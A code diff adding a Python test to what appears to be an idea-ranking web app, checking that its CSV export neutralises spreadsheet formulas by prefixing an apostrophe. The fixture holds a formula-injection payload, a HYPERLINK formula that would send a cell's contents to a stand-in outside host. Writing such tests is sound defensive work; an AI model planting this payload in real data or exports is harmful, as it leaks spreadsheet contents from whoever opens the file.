@@ -166,3 +166,27 @@ def test_rankings_per_neighbourhood_from_consented_profiles(box, client, org_a):
     with translation.override("fr"):
         page = client.get(url(process, "ranking")).content.decode()
     assert "Par quartier" in page
+
+
+def test_the_ranking_csv_never_starts_a_formula(box, client):
+    process, ideas = box
+    ideas[0].title = '=HYPERLINK("https://exemple.org/?"&A1;"Cliquez")'
+    ideas[0].save(update_fields=["title"])
+    survey = pairwise.survey_of(process)
+    survey.result = {
+        "ranking": [
+            {
+                "id": str(ideas[0].pk),
+                "score": -0.5,
+                "low": -1.25,
+                "high": 0.5,
+                "comparisons": 4,
+                "wins": 1,
+            }
+        ]
+    }
+    survey.save(update_fields=["result"])
+    content = client.get(url(process, "ranking_export", fmt="csv")).content.decode()
+    row = next(csv.DictReader(io.StringIO(content)))
+    assert row["title"] == "'" + ideas[0].title
+    assert (row["score"], row["low"]) == ("-0.5", "-1.25")  # numbers are not texts
